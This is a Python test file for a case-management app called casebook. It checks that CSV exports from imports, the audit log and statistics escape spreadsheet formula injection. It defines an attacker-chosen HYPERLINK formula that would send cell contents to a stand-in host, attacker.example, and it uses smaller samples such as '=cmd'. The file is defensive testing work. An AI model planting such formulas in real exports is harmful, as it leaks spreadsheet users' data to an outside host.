"""No CSV casebook writes can start a cell with a spreadsheet formula (= + - @, tab, CR): every
writer goes through casebook.spreadsheet, and each is tested with a cell an attacker chose."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

from click.testing import CliRunner
from flask import Flask
from flask.testing import FlaskClient
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import select

from casebook.audit.services import Actor, audit_record
from casebook.cli import cli
from casebook.config import Settings
from casebook.imports.models import ImportRun
from casebook.spreadsheet import FORMULA_STARTS, csv_text, safe_cell, tsv_line
from casebook.stats.services import Release
from tests.conftest import cli_env, csrf_from, login, make_user, minimal_case

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
ROOT = Path(__file__).resolve().parents[2]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_inert(text: str) -> None:
    for cell in _cells(text):
        if re.fullmatch(r"-?\d+(\.\d+)?", cell):
            continue  # a number is a number (counts, scores): no formula
        assert cell.lstrip(" ")[:1] not in FORMULA_STARTS, cell


@given(st.lists(st.lists(st.text(max_size=12) | st.integers() | st.none(), max_size=4), max_size=4))
def test_no_cell_of_any_csv_starts_a_formula(rows: list[list[object]]) -> None:
    text = csv_text(rows)
    _assert_inert(text)
    parsed = list(csv.reader(io.StringIO(text)))
    for row, back in zip(rows, parsed, strict=False):
        for value, cell in zip(row, back, strict=True):
            shown = "" if value is None else str(value)
            assert cell in (shown, "'" + shown)  # nothing else is changed


def test_safe_cell_examples() -> None:
    for bad in ("=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "  =1"):
        assert safe_cell(bad) == "'" + bad
    assert safe_cell(-3) == -3 and safe_cell("CB-2026-000001") == "CB-2026-000001"
    assert tsv_line(["=cmd", "CB-1", "0.9"]) == "'=cmd\tCB-1\t0.9"


def test_every_csv_writer_goes_through_the_shared_function() -> None:
    """A new writer that bypasses casebook.spreadsheet fails here."""
    offenders = []
    for path in (ROOT / "casebook").rglob("*.py"):
        if path.name == "spreadsheet.py":
            continue
        if path.relative_to(ROOT).as_posix() == "casebook/field/xlsform.py":
            # the field form's XLSForm: written from casebook's own questions and vocabularies
            # (no stored or user-entered value), and its XPath columns must stay as written
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"csv\.(writer|DictWriter)\(|Workbook\(|xlsxwriter|to_csv\(", text):
            offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []


def _jsonl_with_formula_field() -> bytes:
    bad = {**minimal_case(), FORMULA: "x"}
    return (json.dumps(minimal_case()) + "\n" + json.dumps(bad) + "\n").encode()


def test_import_report_download(app: Flask, client: FlaskClient) -> None:
    login(client, make_user(app, "documenter"))
    token = csrf_from(client.get("/imports/").get_data(as_text=True))
    resp = client.post(
        "/imports/",
        data={"csrf_token": token, "file": (io.BytesIO(_jsonl_with_formula_field()), "c.jsonl")},
        content_type="multipart/form-data",
    )
    assert resp.status_code == 422
    with app.extensions["casebook.db"].sessionmaker() as s:
        run_id = s.scalar(select(ImportRun.id))
    report = client.get(f"/imports/{run_id}/report.csv").get_data(as_text=True)
    assert "'" + FORMULA in _cells(report)
    _assert_inert(report)


def test_import_report_file_of_the_cli(app: Flask, settings: Settings, tmp_path: Path) -> None:
    path = tmp_path / "cases.jsonl"
    path.write_bytes(_jsonl_with_formula_field())
    report = tmp_path / "report.csv"
    env = cli_env(settings)
    result = CliRunner().invoke(
        cli, ["import", str(path), "--dry-run", "--report", str(report)], env=env
    )
    assert result.exit_code == 1, result.output
    text = report.read_text(encoding="utf-8")
    assert "'" + FORMULA in _cells(text)
    _assert_inert(text)


def test_audit_export(app: Flask, client: FlaskClient) -> None:
    with app.extensions["casebook.db"].sessionmaker() as s, s.begin():
        audit_record(s, Actor.cli(), "-2+3", object_type="@case")
    login(client, make_user(app, "admin"))
    text = client.get("/admin/audit/export.csv").get_data(as_text=True)
    assert "'-2+3" in _cells(text) and "'@case" in _cells(text)
    _assert_inert(text)


def test_stats_csv() -> None:
    from casebook.stats.views import _csv

    release = Release(
        number=1,
        released_at="2026-01-01",
        dimensions=("facility",),
        grouped=False,
        k=11,
        verified_only=False,
        rows=[FORMULA, "+1"],
        cols=[""],
        members={},
        values=[[12], [None]],
        row_totals=[12, None],
        col_totals=[12],
        total=12,
        method="-suppressed",
    )
    text = _csv(release)
    assert "'" + FORMULA in _cells(text)
    _assert_inert(text)
